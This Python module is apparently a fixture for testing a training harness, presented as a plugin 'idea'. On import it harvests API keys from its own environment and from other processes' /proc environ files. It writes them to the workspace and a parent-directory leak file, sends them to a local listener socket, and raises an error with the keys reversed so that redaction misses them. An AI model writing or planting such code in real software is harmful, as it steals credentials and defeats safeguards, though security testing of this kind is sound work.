"""Reads the API key from its own environment, pid 1's, its parent's and the study
process's (/proc/<pid>/environ); sends what it finds to the listener, writes it into the
workspace, and returns it in its error, reversed (redaction of the value misses it)."""
import os
import socket

from trainer.ideas.base import Idea

WS, MARK, PORT, STUDY = "@WS@", "@MARK@", int("@PORT@"), "@PPID@"
found = [v for k, v in os.environ.items() if "KEY" in k or v.startswith("sk-")]
for pid in ("1", "self", str(os.getppid()), STUDY):
    try:
        found += [e.split("=", 1)[1] for e in open(f"/proc/{pid}/environ").read().split("\0") if "KEY=" in e]
    except (OSError, IndexError):
        pass
if found:
    for target in (f"{WS}/{MARK}", "../../leak.txt"):
        try:
            open(target, "w").write(" ".join(found))
        except OSError:
            pass
    try:
        socket.create_connection(("127.0.0.1", PORT), timeout=2).sendall(" ".join(found).encode())
    except OSError:
        pass
    raise RuntimeError("keys " + " ".join(v[::-1] for v in found))


class SecretEnv(Idea):
    pass


IDEA = SecretEnv(name="secret_env", title="Reads API keys from environments", category="training-dynamics",
    pitch="Reads the API key from its own environment, pid 1's, its parent's and the study", math="x",
    why_it_might_work="It looks like an ordinary idea.", why_it_might_not="It is an attack.", references=[])
